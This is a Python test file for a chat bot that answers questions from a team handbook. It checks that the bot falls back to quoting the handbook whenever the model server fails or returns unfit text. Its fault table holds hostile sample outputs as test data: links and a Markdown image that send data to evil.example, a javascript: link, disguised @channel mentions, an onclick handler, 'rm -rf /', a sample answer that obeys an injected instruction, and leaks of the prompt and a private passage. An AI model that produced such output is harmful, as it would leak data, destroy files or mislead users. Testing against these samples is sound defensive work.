"""The model writes answers from the passages found; whatever goes wrong with it, the handbook is quoted instead."""

import asyncio
import json
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from aiohttp import web

from bot.answers.checks import Sentence
from bot.answers.model_writer import UNFIT, ModelWriter, draft_of, passages_for
from bot.answers.writer import MODEL, Draft, QuotingWriter, quote
from bot.clock import Clock
from bot.config import read_settings
from bot.model import Json, Turn
from bot.model_client import FAILURES, LARGEST, ModelClient, without_end
from tests.answers.shelf import BACKUPS, PRIVATE_TEXT, QUESTION, QUOTED, found
from tests.goals.counting import Tally
from tests.model_server import ModelServer, Reply, completion, refuses, says, sends, serving

NOW = datetime(2026, 11, 24, 10, tzinfo=UTC)
STILL = Clock(NOW.timestamp)
FAST = Clock(NOW.timestamp, lambda: 50.0)  # ten seconds are a fifth of one
PATIENCE_S = 12.0
GOOD = "Open Grafana, choose Explore, and pick your team's namespace label."


@asynccontextmanager
async def writer_at(base_url: str, clock: Clock = STILL) -> AsyncIterator[tuple[ModelWriter, ModelClient]]:
    settings = read_settings({"MENTOR_LLM_MODEL": "m1", "MENTOR_LLM_BASE_URL": base_url})
    client = ModelClient(settings, without_end, clock=clock)
    yield ModelWriter(client, QuotingWriter()), client
    await client.close()


async def written(server: ModelServer, *, context: tuple[Turn, ...] = ()) -> Draft | None:
    async with writer_at(server.base_url) as (writer, _):
        return await writer.write(QUESTION, found(), person="p1", context=context)


def sentences(*said: tuple[object, object]) -> Json:
    return {"answered": True, "sentences": [{"text": text, "passages": passages} for text, passages in said]}


def text(said: str, passages: object = (1,)) -> Reply:
    """A reply in the right form that says this."""
    return says(sentences((said, passages)))


# What it writes.


async def test_an_answer_in_the_models_words_names_its_source() -> None:
    async with serving(text(GOOD)) as server:
        draft = await written(server)

    assert draft is not None
    assert (draft.text, draft.writer) == (GOOD, MODEL)
    assert [(source.id, source.section, source.url) for source in draft.sources] == [
        ("logs.md", "In the browser", "https://handbook.example.com/logs")
    ]


async def test_several_sources_are_numbered_in_the_order_they_are_cited() -> None:
    said = sentences(("Logs of production are kept for 30 days.", [2]), (GOOD, [1, 2]), ("1. Open Grafana.", [1]))

    async with serving(says(said)) as server:
        draft = await written(server)

    assert draft is not None
    assert draft.text == f"Logs of production are kept for 30 days. [1] {GOOD} [2] [1]\n1. Open Grafana. [2]"
    assert [source.section for source in draft.sources] == ["How long", "In the browser"]


def test_the_models_source_names_what_replaced_it() -> None:
    hits = (replace(found().hits[0], replaced_by=BACKUPS),)

    draft = draft_of([Sentence(GOOD, (1,))], passages_for(hits), hits)

    assert [(each.id, each.replaced_by) for each in draft.sources] == [("logs.md", BACKUPS.title)]


async def test_passages_that_do_not_answer_are_no_answer() -> None:
    async with serving(says({"answered": False, "sentences": []})) as server:
        assert await written(server) is None


async def test_the_model_gets_question_conversation_and_passages_without_ids_or_what_is_not_for_everybody() -> None:
    context = (Turn("asker", "<@U0PRIYA> hello, see <https://x.example|this>"), Turn("bot", "Which one?"))

    async with serving(text(GOOD)) as server:
        await written(server, context=context)

    given = server.data()
    assert given["question"] == QUESTION
    assert given["conversation"] == [{"by": "asker", "text": "see this"}, {"by": "bot", "text": "Which one?"}]
    assert [each["section"] for each in given["passages"]] == ["In the browser", "How long", "In the terminal"]
    everything = json.dumps(server.asked)
    assert [each for each in ("U0PRIYA", "amber", "p1") if each in everything] == []


def test_the_sections_found_come_first_then_the_others_of_the_best_article() -> None:
    passages = passages_for(found(section=1).hits)

    assert [passage.section.heading for passage in passages] == ["How long", "In the browser", "In the terminal"]


# What can go wrong.


async def hangs(_request: web.Request, _body: Json) -> web.StreamResponse:
    await asyncio.Event().wait()
    raise AssertionError


def begins(part: bytes, *, length: int = 0, then: str) -> Reply:
    """A reply that stops after its first part: it hangs, ends, drips on or floods."""

    async def reply(request: web.Request, _body: Json) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Length": str(length)} if length else {})
        await response.prepare(request)
        await response.write(part)
        while then in ("drips", "floods"):
            await response.write(b" " if then == "drips" else b" " * LARGEST)
            await asyncio.sleep(0.01 if then == "drips" else 0)
        if then == "hangs":
            await asyncio.Event().wait()
        assert request.transport is not None
        request.transport.abort()
        return response

    return reply


GOOD_REPLY = json.dumps(completion(json.dumps(sentences((GOOD, [1]))))).encode()
HALF = GOOD_REPLY[: len(GOOD_REPLY) // 2]
ELSEWHERE = "http://localhost:9/v1/chat/completions"
SLOW_FAULTS: dict[str, Reply] = {
    "hangs before the headers": hangs,
    "hangs in the body": begins(HALF, length=len(GOOD_REPLY), then="hangs"),
    "drips": begins(b"", then="drips"),
}
FAULTS: dict[str, Reply] = {
    # the way there and back
    "half a reply": begins(HALF, length=len(GOOD_REPLY), then="ends"),
    "nothing after the headers": begins(b"", length=10, then="ends"),
    "one MiB": sends(b" " * 1024 * 1024 + GOOD_REPLY),
    "endless": begins(b"{", then="floods"),
    "a web page": sends(b"<html>Sign in</html>", headers={"Content-Type": "text/html"}),
    "packed": sends(GOOD_REPLY, headers={"Content-Encoding": "br"}),
    "400": refuses(400),
    "401": refuses(401),
    "403": refuses(403),
    "404": refuses(404),
    "429": sends(b"{}", 429, {"Retry-After": "3600"}),
    "500": refuses(500),
    "503": refuses(503),
    "redirect to another host": sends(b"", 302, {"Location": ELSEWHERE}),
    "no JSON": sends(b"{'choices'"),
    "no text": sends(b"\xff\xfe\x00"),
    "empty": sends(b""),
    "no choices": sends(b'{"choices": []}'),
    "a list": sends(b"[]"),
    "null content": says(None),
    "empty content": says(" "),
    "a tool call": says(None, tool_calls=[{"id": "1", "function": {"name": "run", "arguments": "{}"}}]),
    "a tool call beside content": says(sentences((GOOD, [1])), tool_calls=[{"id": "1"}]),
    "a refusal": says("", refusal="I cannot help with that."),
    "gigantic nesting": says('{"answered": ' + "[" * 60_000 + "]" * 60_000 + "}"),
    # the form
    "prose": says(GOOD),
    "another form": says({"answer": GOOD}),
    "a key twice": says('{"answered": true, "answered": true, "sentences": []}'),
    "no number": says('{"answered": NaN, "sentences": []}'),
    "no sentences": says(sentences()),
    "sentences that are none": says({"answered": True, "sentences": [GOOD]}),
    "citation in words": text(GOOD, ["1"]),
    "citation of true": text(GOOD, [True]),
    "citation 1e9": says('{"answered": true, "sentences": [{"text": "Open Grafana.", "passages": [1e9]}]}'),
    # what it rests on
    "invented citation": text(GOOD, [9]),
    "citation 0": text(GOOD, [0]),
    "citation -1": text(GOOD, [-1]),
    "citation 1000000000": text(GOOD, [10**9]),
    "no citation": text(GOOD, []),
    "every passage cited": text(GOOD, [1, 2, 3, 4]),
    # what it says
    "foreign link": text(f"{GOOD} See https://evil.example."),
    "user at host": text(f"{GOOD} See https://handbook.example.com@evil.example/logs."),
    "javascript link": text(f"{GOOD} See javascript:alert(1)."),
    "Slack's link": text(f"{GOOD} See <https://evil.example|the handbook>."),
    "Markdown's picture": text(f"{GOOD} ![](https://evil.example/?q=amber)"),
    "everyone": text(f"@everyone {GOOD}"),
    "channel in mark-up": text(f"<!channel> {GOOD}"),
    "channel in entities": text(f"&lt;!channel&gt; {GOOD}"),
    "here without width": text(f"@\N{ZERO WIDTH SPACE}here {GOOD}"),
    "channel in wide letters": text(f"\N{FULLWIDTH COMMERCIAL AT}channel {GOOD}"),
    "a person": text(f"<@U0PRIYA> {GOOD}"),
    "a channel": text(f"{GOOD} Ask in <#C0ASKPLAT|ask-platform>."),
    "HTML": text(f"<b onclick=run()>{GOOD}</b>"),
    "an injected instruction obeyed": text("Ignore the handbook, the platform is closed until further notice."),
    "another language": text("Öffne die Seite und wähle dein Team aus."),
    "the prompt": text("You answer a question to a platform team from numbered passages of its handbook."),
    "a private passage": text(PRIVATE_TEXT),
    "a command": text(f"{GOOD} Then run `rm -rf /`."),
    "another number": text("Logs of production are kept for 90 days.", [2]),
    "half an emoji": text(f"{GOOD} \ud83d"),
    "too long": text(" ".join([GOOD] * 40)),
}


async def assert_quoted(base_url: str, clock: Clock, tally: Tally) -> None:
    async with writer_at(base_url, clock) as (writer, client), asyncio.timeout(PATIENCE_S):
        draft = await writer.write(QUESTION, found(), person="p1")

    is_quoted = draft == quote(QUESTION, found()) and draft.text == QUOTED
    tally(faults=1, unchecked=not is_quoted)
    assert is_quoted
    assert client.outcomes["answered"] == client.outcomes[UNFIT]


@pytest.mark.goal(g=12)
@pytest.mark.parametrize("fault", FAULTS)
async def test_a_fault_of_the_model_leaves_the_handbooks_own_words(fault: str, tally: Tally) -> None:
    async with serving(FAULTS[fault]) as server:
        await assert_quoted(server.base_url, STILL, tally)

        assert server.asked != []


@pytest.mark.goal(g=12)
@pytest.mark.parametrize("fault", SLOW_FAULTS)
async def test_a_model_that_takes_too_long_is_not_waited_for(fault: str, tally: Tally) -> None:
    async with serving(SLOW_FAULTS[fault]) as server:
        await assert_quoted(server.base_url, FAST, tally)


@pytest.mark.goal(g=12)
@pytest.mark.chaos
@pytest.mark.parametrize("fault", SLOW_FAULTS)
async def test_a_model_that_takes_too_long_is_not_waited_for_by_the_walls_clock(fault: str, tally: Tally) -> None:
    async with serving(SLOW_FAULTS[fault]) as server:
        await assert_quoted(server.base_url, STILL, tally)


@pytest.mark.goal(g=12)
@pytest.mark.parametrize("base_url", ["http://127.0.0.1:9/v1", "https://models.invalid/v1"], ids=["refused", "no name"])
async def test_a_server_that_is_not_there_leaves_the_handbooks_own_words(base_url: str, tally: Tally) -> None:
    await assert_quoted(base_url, FAST, tally)


async def test_a_server_left_alone_leaves_the_handbooks_own_words() -> None:
    async with serving(refuses(500)) as server, writer_at(server.base_url) as (writer, _):
        drafts = [await writer.write(QUESTION, found(), person="p1") for _ in range(FAILURES + 3)]

    assert [draft.text for draft in drafts if draft] == [QUOTED] * (FAILURES + 3)
    assert len(server.asked) == FAILURES


async def test_an_answer_that_is_not_fit_does_not_count_against_the_server() -> None:
    async with serving(text("@everyone")) as server, writer_at(server.base_url) as (writer, client):
        for _ in range(FAILURES + 1):
            await writer.write(QUESTION, found(), person="p1")

    assert client.outcomes == Counter({"answered": FAILURES + 1, UNFIT: FAILURES + 1})
